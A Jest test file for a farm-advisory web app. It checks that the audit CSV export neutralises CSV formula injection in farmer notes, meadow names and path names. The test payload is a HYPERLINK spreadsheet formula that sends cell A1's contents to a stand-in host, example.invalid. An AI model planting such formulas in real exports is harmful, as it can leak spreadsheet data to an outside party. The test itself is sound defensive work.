/**
 * A farmer's text never reaches an adviser's spreadsheet as a formula (OWASP, CSV injection): a
 * form note, an indicator note, a meadow name and a path name beginning with `=`, `+`, `-`, `@`, a
 * tab or a carriage return come out of the audit trail's CSV (`GET /api/Audit/{projectId}/csv`) as
 * text, while a negative value stays a number and the times stay dates. The results export, the
 * client's CSV, is checked in test/client/screens/results-farmers.test.tsx.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { FORMULA_STARTS, looksLikeFormula, readCsv } from '../common/helpers/read-csv';
import { buildTestApp, USERS, type TestApp } from './helpers/build-test-app';
import { demoFormsAsDrafts, farmerRows, type FarmerRows } from './helpers/demo-ids';

let t: TestApp;
let own: FarmerRows;
let rows: string[][];

const formula = (start: string, what: string) => `${start}HYPERLINK("http://example.invalid/?x="&A1;"${what}")`;

async function update(user: string, tableId: number, id: number, properties: Record<string, unknown>): Promise<void> {
  const current = await t.as(user, { method: 'GET', url: `/api/Records/1/${tableId}/${id}` });
  expect(current.statusCode).toBe(200);
  const updated = await t.as(user, { method: 'PUT', url: `/api/Records/1/${tableId}/${id}`, payload: { properties, version: current.json().version } });
  expect(updated.statusCode).toBe(200);
}

beforeAll(async () => {
  t = await buildTestApp();
  await demoFormsAsDrafts(t.app, t.tables);
  own = await farmerRows(t.app, t.tables, USERS.farmer1);
  const { forms, indicators, paths, areas } = t.tables;
  const square = {
    type: 'Polygon',
    coordinates: [
      [
        [16.15, 46.83],
        [16.151, 46.83],
        [16.151, 46.831],
        [16.15, 46.831],
        [16.15, 46.83],
      ],
    ],
  };
  for (const start of FORMULA_STARTS) {
    // The farmer writes the notes; the adviser names meadows and paths.
    await update(USERS.farmer1, forms.id, own.forms[0]!, { [forms.columns.note]: formula(start, 'obrazec') });
    await update(USERS.farmer1, indicators.id, own.indicators[0]!, { [indicators.columns.note]: formula(start, 'kazalnik') });
    await update(USERS.editor, paths.id, own.paths[0]!, { [paths.columns.name]: formula(start, 'pot') });
    const created = await t.as(USERS.editor, {
      method: 'POST',
      url: `/api/Features/1/${areas.id}`,
      payload: { type: 'Feature', properties: { [areas.columns.name]: formula(start, 'travnik'), [areas.columns.user]: own.farmer }, geometry: square },
    });
    expect(created.statusCode).toBe(201);
  }
  await update(USERS.farmer1, indicators.id, own.indicators[1]!, { [indicators.columns.value]: -3 });
  const csv = await t.as(USERS.editor, { method: 'GET', url: '/api/Audit/1/csv' });
  expect(csv.statusCode).toBe(200);
  rows = readCsv(csv.body);
});

afterAll(async () => {
  await t.close();
});

describe('the audit CSV', () => {
  it('has no cell a spreadsheet program would run', () => {
    const cells = rows.flat();
    expect(cells.length).toBeGreaterThan(100);
    expect(cells.filter(looksLikeFormula)).toEqual([]);
  });

  it.each(FORMULA_STARTS)('shows a form note, an indicator note, a meadow and a path name starting with %j as text', (start) => {
    const cells = new Set(rows.flat());
    for (const what of ['obrazec', 'kazalnik']) expect(cells.has(`'${formula(start, what)}`)).toBe(true);
    // Meadows and paths also appear as the record's name beside its id.
    const named = rows.flat().filter((cell) => cell.startsWith(`'${start}`));
    for (const what of ['travnik', 'pot']) expect(named.some((cell) => cell.includes(`"${what}")`))).toBe(true);
  });

  it('a negative value stays a number, the times stay dates', () => {
    const value = rows.find((row) => row[6] === '-3' || row[7] === '-3');
    expect(value).toBeDefined();
    for (const row of rows.slice(1)) expect(row[0]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}/);
  });
});
